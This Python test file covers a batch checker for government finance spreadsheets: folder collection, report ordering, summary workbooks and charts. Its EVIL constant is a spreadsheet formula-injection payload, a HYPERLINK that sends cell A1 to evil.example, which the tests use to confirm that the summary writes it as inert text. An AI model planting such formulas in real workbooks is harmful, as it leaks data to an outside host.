"""The finance bureau's batch: a folder of good and bad submissions, checked in order, summarised."""
from __future__ import annotations

import io
import os
import re
import shutil
import zipfile

import pytest
from openpyxl import load_workbook

from perfeval_xl.batch import collect, run
from perfeval_xl.findings import Finding, Metrics, Report, Severity
from perfeval_xl.pipeline import CheckOptions
from perfeval_xl.writers.summary import write_summary

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture(scope="module")
def inbox(tmp_path_factory, seed_example, seed_original):
    """收件箱/ with sub-folders, good and bad files, a lock file and a previous run's outputs."""
    from tests.conftest import set_cells

    d = tmp_path_factory.mktemp("batch") / "收件箱"
    (d / "市直" / "办公室").mkdir(parents=True)
    (d / "区县").mkdir()
    shutil.copyfile(seed_example, d / "市直" / "办公室" / "益阳市人民政府办公室_2024.xlsx")
    shutil.copyfile(seed_original, d / "市直" / "原表_政府办.xlsx")
    set_cells(seed_example, {"unit_name": "'" + EVIL}, dest=str(d / "区县" / "恶意单位名.xlsx"))
    set_cells(seed_example, {"funds_actual": 4000}, dest=str(d / "区县" / "超预算.xlsx"))
    (d / "区县" / "其实是CSV.xlsx").write_text("项目,金额\n公务接待费,1.91\n", encoding="utf-8")
    (d / "区县" / "截断.xlsx").write_bytes(open(seed_example, "rb").read()[:3000])
    (d / "区县" / "~$超预算.xlsx").write_bytes(b"\x04user" + b" " * 160)
    from perfeval_xl.pipeline import check_file
    from perfeval_xl.writers.annotate import annotate

    from perfeval_xl import ledger

    # a previous run's outputs: ours because our record of what we wrote holds their bytes (ledger.py)
    annotate(seed_example, check_file(seed_example, CheckOptions()), str(d / "区县" / "超预算_已校验.xlsx"))
    shutil.copyfile(seed_example, d / "区县" / "超预算_备份_20250423-101500.xlsx")
    ledger.record(str(d / "区县" / "超预算_备份_20250423-101500.xlsx"), ledger.KIND_BACKUP)  # as annotate does
    (d / "区县" / "说明.txt").write_text("不是工作簿", encoding="utf-8")
    write_summary([Report("x.xlsx", error="文件已加密")], str(d / "上次的汇总.xlsx"))  # a previous run's summary
    ledger.record(str(d / "上次的汇总.xlsx"), ledger.KIND_SUMMARY)  # as `perfeval check --summary` does
    return d


def test_collect_walks_folders_and_skips_locks_and_our_outputs(inbox):
    files = collect([str(inbox)])
    names = [os.path.relpath(f, inbox) for f in files]
    assert names == [
        os.path.join("区县", "其实是CSV.xlsx"),
        os.path.join("区县", "恶意单位名.xlsx"),
        os.path.join("区县", "截断.xlsx"),
        os.path.join("区县", "超预算.xlsx"),
        os.path.join("市直", "办公室", "益阳市人民政府办公室_2024.xlsx"),
        os.path.join("市直", "原表_政府办.xlsx"),
    ]
    assert collect([str(inbox)], exclude=[str(inbox / "区县")]) == files[4:]
    one = str(inbox / "区县" / "超预算.xlsx")
    assert collect([one, str(inbox / "市直"), one]) == [one] + files[4:]  # files first, no duplicates


def test_annotate_dest_mirrors_sub_folders(inbox, tmp_path):
    from perfeval_xl.batch import annotate_dest

    src = str(inbox / "市直" / "办公室" / "益阳市人民政府办公室_2024.xlsx")
    out = str(tmp_path / "OUT")
    assert annotate_dest(src, [str(inbox)], out) == os.path.join(out, "市直", "办公室", "益阳市人民政府办公室_2024_已校验.xlsx")
    assert annotate_dest(src, [str(inbox / "市直")], out) == os.path.join(out, "办公室", "益阳市人民政府办公室_2024_已校验.xlsx")
    assert annotate_dest(src, [src], out) == os.path.join(out, "益阳市人民政府办公室_2024_已校验.xlsx")  # a file argument
    # issue 12 item 10: copies of a.xls and a.ods side by side must not be one file
    assert annotate_dest(str(inbox / "a.xls"), [str(inbox)], out) == os.path.join(out, "a_xls_已校验.xlsx")
    assert annotate_dest(str(inbox / "a.ods"), [str(inbox)], out) == os.path.join(out, "a_ods_已校验.xlsx")
    assert annotate_dest(str(inbox / "a.et"), [str(inbox)], out) == os.path.join(out, "a_et_已校验.xlsx")


def test_run_reports_every_file_in_input_order(inbox):
    files = collect([str(inbox)])
    reports = run(files, CheckOptions(), jobs=1)
    assert [r.path for r in reports] == files
    by_name = {os.path.basename(r.path): r for r in reports}
    assert "CSV" in by_name["其实是CSV.xlsx"].error
    assert "损坏" in by_name["截断.xlsx"].error
    seed = by_name["益阳市人民政府办公室_2024.xlsx"]
    assert seed.error is None and seed.metrics.department == "益阳市人民政府办公室"
    assert abs(float(seed.metrics.execution_rate) - 0.9596) < 0.0001
    assert by_name["原表_政府办.xlsx"].error is None  # the official layout without names, by labels
    over = by_name["超预算.xlsx"]
    assert over.errors > seed.errors  # 执行数 > 预算数 is an error
    assert by_name["恶意单位名.xlsx"].metrics.department == EVIL


def test_the_pool_gives_the_same_reports_in_the_same_order(inbox, tmp_path):
    base = collect([str(inbox)])
    many = []
    for i in range(30):  # enough files to take the process-pool path
        src = base[i % len(base)]
        dest = tmp_path / f"{i:02d}_{os.path.basename(src)}"
        shutil.copyfile(src, dest)
        many.append(str(dest))
    serial = run(many, CheckOptions(), jobs=1)
    pooled = run(many, CheckOptions(), jobs=2)
    assert [r.to_dict() for r in pooled] == [r.to_dict() for r in serial]


class _Tty(io.StringIO):
    def isatty(self):
        return True


def test_progress_bar_only_on_a_terminal(inbox):
    files = collect([str(inbox)])[:3]
    tty, pipe = _Tty(), io.StringIO()
    run(files, CheckOptions(), jobs=1, progress=tty)
    run(files, CheckOptions(), jobs=1, progress=pipe)
    assert "3/3" in tty.getvalue() and tty.getvalue().startswith("\r校验 [")
    assert pipe.getvalue() == ""
    seen = []
    run(files, CheckOptions(), jobs=1, progress=lambda done, total: seen.append((done, total)))
    assert seen == [(1, 3), (2, 3), (3, 3)]


def test_summary_workbook(inbox, tmp_path):
    files = collect([str(inbox)])
    reports = run(files, CheckOptions(), jobs=1)
    out = write_summary(reports, str(tmp_path / "汇总" / "2024年自评复核汇总.xlsx"))
    wb = load_workbook(out)
    assert wb.sheetnames == ["汇总", "全部问题", "规则统计", "图表"]
    ws = wb["汇总"]
    header = [c.value for c in ws[1]]
    assert header[:11] == ["单位", "年度", "全年预算数", "全年执行数", "执行率", "自评总分", "复核总分", "等级",
                           "错误数", "警告数", "文件"]
    rows = {r[10]: r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert len(rows) == len(files)
    seed_row = rows[files[4]]
    assert seed_row[0] == "益阳市人民政府办公室" and seed_row[1] == 2024
    assert abs(seed_row[2] - 3676.31) < 0.01 and abs(seed_row[3] - 3527.66) < 0.01
    assert abs(seed_row[4] - 0.9596) < 0.0001
    assert "CSV" in rows[files[0]][11] and rows[files[0]][11].startswith("无法校验")
    # the malicious unit name is text, not a formula
    evil = [c for c in ws["A"] if c.value == EVIL]
    assert len(evil) == 1 and evil[0].data_type == "s"
    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 3
        assert all(b"<barChart>" in z.read(c) for c in charts)
    findings = list(wb["全部问题"].iter_rows(min_row=2, values_only=True))
    assert len(findings) == sum(len(r.findings) for r in reports)
    freq = list(wb["规则统计"].iter_rows(min_row=2, values_only=True))
    assert sum(r[3] for r in freq) == len(findings)
    assert [r[3] for r in freq] == sorted((r[3] for r in freq), reverse=True)


def test_summary_of_handmade_reports_counts_rules():
    reports = [
        Report("a.xlsx", [Finding("PE101", Severity.ERROR, "s", "A1", "m"), Finding("PE202", Severity.WARNING, "s", "B1", "m")],
               Metrics(department="甲", year=2024)),
        Report("b.xlsx", [Finding("PE101", Severity.ERROR, "s", "A1", "m")], Metrics(department="乙", year=2024)),
        Report("c.xlsx", error="文件已加密"),
    ]
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        wb = load_workbook(write_summary(reports, os.path.join(d, "s.xlsx")))
        freq = list(wb["规则统计"].iter_rows(min_row=2, values_only=True))
        assert [(r[0], r[3], r[4]) for r in freq] == [("PE101", 2, 2), ("PE202", 1, 1)]
        rows = list(wb["汇总"].iter_rows(min_row=2, values_only=True))
        assert rows[2][0] == "c" and rows[2][11] == "无法校验：文件已加密"


def test_cli_check_folder_end_to_end(inbox, tmp_path):
    cli = pytest.importorskip("perfeval_xl.cli")
    work = tmp_path / "收件箱"
    shutil.copytree(inbox, work)
    before = {p: open(os.path.join(r, p), "rb").read() for r, _, fs in os.walk(work) for p in fs}
    summary, outdir = tmp_path / "S.xlsx", tmp_path / "OUT"
    code = cli.main(["check", str(work), "--summary", str(summary), "--annotate", str(outdir)])
    assert code in (1, 2)  # findings in the folder
    assert summary.is_file()
    annotated = sorted(os.path.relpath(os.path.join(r, f), outdir) for r, _, fs in os.walk(outdir) for f in fs)
    assert os.path.join("市直", "办公室", "益阳市人民政府办公室_2024_已校验.xlsx") in annotated  # sub-folders mirrored
    assert not any("CSV" in a or "截断" in a for a in annotated)  # unreadable files are not annotated
    wb = load_workbook(outdir / "市直" / "办公室" / "益阳市人民政府办公室_2024_已校验.xlsx")
    assert wb.sheetnames[0] == "校验结果"
    after = {p: open(os.path.join(r, p), "rb").read() for r, _, fs in os.walk(work) for p in fs}
    assert after == before  # inputs untouched


def test_collect_says_which_earlier_outputs_it_skipped_and_checks_named_ones(inbox):
    skipped = []
    files = collect([str(inbox)], skipped=skipped)
    assert sorted(os.path.relpath(f, inbox) for f in skipped) == [
        "上次的汇总.xlsx", os.path.join("区县", "超预算_备份_20250423-101500.xlsx"),
        os.path.join("区县", "超预算_已校验.xlsx")]
    assert not set(skipped) & set(files)
    assert not any("~$" in f for f in skipped)  # lock files are not submissions: left out silently
    # a file named explicitly is always checked, whatever its name
    named = [str(inbox / "区县" / "超预算_已校验.xlsx"), str(inbox / "区县" / "超预算_备份_20250423-101500.xlsx")]
    skipped2 = []
    assert collect(named + [str(inbox / "区县")], skipped=skipped2)[:2] == named
    assert skipped2 == []  # named files were checked, so they were not skipped
    # this run's own outputs are still left out
    assert collect([str(inbox)], exclude=[str(inbox / "上次的汇总.xlsx")], skipped=(s3 := [])) == files
    assert "上次的汇总.xlsx" not in {os.path.basename(f) for f in s3}


def test_summary_charts_leave_out_unreadable_files_and_grow_with_the_units(tmp_path):
    from decimal import Decimal as D

    from perfeval_xl.writers.summary import chart_height, chart_units

    def rep(path, unit, score, codes=("PE303",)):
        return Report(path, [Finding(c, Severity.WARNING, "s", "A1", "m") for c in codes],
                      Metrics(department=unit, year=2024, total_score=D(score), execution_rate=D("0.9")))

    few = [rep("a/甲.xlsx", "甲局", 90), rep("b/甲.xlsx", "甲局", 80), rep("乙.xlsx", "乙局", 70),
           Report("坏.xlsx", error="文件已加密")]
    assert [u[0] for u in chart_units(few)] == ["甲局（a/甲.xlsx）", "甲局（b/甲.xlsx）", "乙局"]
    assert [u[0] for u in chart_units(few[1:])] == ["甲局", "乙局"]
    assert [u[1] for u in chart_units(few)] == [90, 80, 70]  # the unreadable file is not a bar
    many = [rep(f"{i}.xlsx", f"第{i}号单位", 90) for i in range(300)]
    assert chart_height(300) > 5 * chart_height(3) and chart_height(300) <= 160

    def chart_facts(path):
        wb = load_workbook(path)
        ws = wb["图表"]
        with zipfile.ZipFile(path) as z:
            charts = [z.read(n).decode() for n in sorted(z.namelist()) if n.startswith("xl/charts/chart")]
            drawing = z.read("xl/drawings/drawing1.xml").decode()
        return wb, ws, charts, drawing

    wb, ws, charts, drawing = chart_facts(write_summary(few, str(tmp_path / "few.xlsx")))
    assert len(charts) == 3 and all('<barDir val="bar"/>' in c for c in charts)  # horizontal bars
    values = [[c.value for c in row] for row in ws.iter_rows(values_only=False)]
    flat = [v for row in values for v in row if v is not None]
    assert "坏" not in flat and "PE303 公用经费项目超预算" in flat
    assert wb["汇总"].max_row == 5  # the unreadable file still has its row in 汇总
    heights = [int(h) for h in re.findall(r'cy="(\d+)"', drawing)]
    _, _, _, drawing_many = chart_facts(write_summary(many, str(tmp_path / "many.xlsx")))
    heights_many = [int(h) for h in re.findall(r'cy="(\d+)"', drawing_many)]
    assert max(heights_many) > 5 * max(heights)


def test_summary_chart_names_every_unit_in_libreoffice(tmp_path, soffice, pdftotext):
    """Rendered by LibreOffice, each of 40 units is labelled on the chart page (none skipped) and the
    unreadable file is not on it."""
    import subprocess
    from decimal import Decimal as D

    reports = [Report(f"{i}.xlsx", [], Metrics(department=f"测试单位{i:02d}号", year=2024, total_score=D(90),
                                                 execution_rate=D("0.95"))) for i in range(40)]
    reports.insert(7, Report("加密的文件.xlsx", error="文件已加密"))
    out = write_summary(reports, str(tmp_path / "s.xlsx"))
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/p", "--headless", "--convert-to", "pdf",
                    "--outdir", str(tmp_path), out], check=True, capture_output=True, timeout=180)
    pdf = str(tmp_path / "s.pdf")
    pages = int(re.search(r"Pages:\s+(\d+)", subprocess.run(["pdfinfo", pdf], capture_output=True,
                                                              text=True).stdout).group(1))
    texts = [subprocess.run(["pdftotext", "-f", str(p), "-l", str(p), pdf, "-"], capture_output=True,
                            text=True).stdout.replace(" ", "") for p in range(1, pages + 1)]
    chart_pages = [t for t in texts if "各单位复核总分" in t]
    assert chart_pages
    text = "".join(texts[texts.index(chart_pages[0]):])
    missing = [f"测试单位{i:02d}号" for i in range(40) if f"测试单位{i:02d}号" not in text]
    assert not missing
    assert "加密的文件" not in text


def _normalised(path) -> dict[str, bytes]:
    """Every zip member, with the times of day that annotate writes (plan timestamp, document dates) blanked."""
    with zipfile.ZipFile(path) as z:
        return {n: re.sub(rb"\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}(:\d{2})?Z?", b"T", z.read(n)) for n in z.namelist()}


def test_annotation_runs_over_the_pool_with_its_own_bar_and_writes_the_same_files(tmp_path, seed_example,
                                                                                   seed_original):
    from perfeval_xl.batch import iter_annotate
    from perfeval_xl.pipeline import check_file
    from perfeval_xl.writers.annotate import annotate

    srcs = []
    for i in range(4):
        p = tmp_path / "in" / f"单位{i}.xlsx"
        p.parent.mkdir(exist_ok=True)
        shutil.copyfile(seed_example if i % 2 else seed_original, p)
        srcs.append(str(p))
    srcs.append(str(tmp_path / "in" / "不存在.xlsx"))  # a file that cannot be marked: reported, the rest go on
    reports = [check_file(s, CheckOptions()) for s in srcs[:4]] + [Report(srcs[4])]
    tasks = [(s, r, str(tmp_path / "pool" / os.path.basename(s)), False) for s, r in zip(srcs, reports)]
    tty = _Tty()
    results = list(iter_annotate(tasks, jobs=2, progress=tty))
    assert sorted(r.src for r in results) == sorted(srcs)
    assert "\r标注 [" in tty.getvalue() and "5/5" in tty.getvalue()
    bad = [r for r in results if r.error]
    assert [r.src for r in bad] == [srcs[4]] and bad[0].written is None
    for s, r in zip(srcs[:4], reports[:4]):
        serial = annotate(s, r, str(tmp_path / "serial" / os.path.basename(s)))
        assert _normalised(serial) == _normalised(tmp_path / "pool" / os.path.basename(s))  # identical output
    seen = []
    list(iter_annotate(tasks[:2], jobs=1, progress=lambda done, total: seen.append((done, total))))
    assert seen == [(1, 2), (2, 2)]


def test_collect_skips_only_what_our_record_proves_ours(tmp_path, seed_example):
    # issue 11: a backup-like name, our defined name or our summary's title used to hide a submission
    from perfeval_xl.batch import REASON_MARKED
    from perfeval_xl.pipeline import check_file
    from perfeval_xl.writers.annotate import annotate
    from perfeval_xl.writers.summary import SUMMARY_TITLE

    d = tmp_path / "收件箱"
    d.mkdir()
    shutil.copyfile(seed_example, d / "财政局_已校验.xlsx")  # a real submission with an unlucky name
    shutil.copyfile(seed_example, d / "报表.bak.xlsx")
    shutil.copyfile(seed_example, d / "甲_备份_2024年.xlsx")
    shutil.copyfile(seed_example, d / "甲_备份_20250423-101500.xlsx")  # dressed as our backup: a submission
    annotate(seed_example, check_file(seed_example, CheckOptions()), str(d / "renamed.xlsx"))  # a marked copy
    # a submission carrying our copy marker and our summary title, written by the department
    data = open(seed_example, "rb").read()
    with zipfile.ZipFile(io.BytesIO(data)) as z, zipfile.ZipFile(d / "伪装.xlsx", "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            body = z.read(info)
            if info.filename == "xl/workbook.xml":
                body = body.replace(b"</workbook>", b"<definedNames><definedName name=\"perfeval_annotated_copy\">"
                                                    b"\"1\"</definedName></definedNames></workbook>") \
                    if b"<definedNames>" not in body else body.replace(
                        b"<definedNames>", b"<definedNames><definedName name=\"perfeval_annotated_copy\">\"1\""
                                           b"</definedName>")
            if info.filename == "docProps/core.xml":
                body = re.sub(rb"<dc:title>.*?</dc:title>", b"", body).replace(
                    b"</cp:coreProperties>", f"<dc:title>{SUMMARY_TITLE}</dc:title></cp:coreProperties>".encode())
            out.writestr(info, body)
    skipped, reasons = [], {}
    files = collect([str(d)], skipped=skipped, reasons=reasons)
    assert sorted(os.path.basename(f) for f in files) == ["伪装.xlsx", "报表.bak.xlsx", "甲_备份_2024年.xlsx",
                                                          "甲_备份_20250423-101500.xlsx", "财政局_已校验.xlsx"]
    assert reasons == {str(d / "renamed.xlsx"): REASON_MARKED}
    assert sorted(skipped) == sorted(reasons)
    reports = run(files, CheckOptions(), jobs=1)
    assert all(r.error is None and r.metrics.department for r in reports)  # every one judged
    # an --in-place run marks the folder's own files again: it keeps marked workbooks
    kept = collect([str(d)], skip_marked=False)
    assert str(d / "renamed.xlsx") in kept
    # a copy we wrote, edited by someone since, is no longer ours: it is checked
    with open(d / "renamed.xlsx", "ab") as fh:
        fh.write(b"\0")
    assert str(d / "renamed.xlsx") in collect([str(d)])
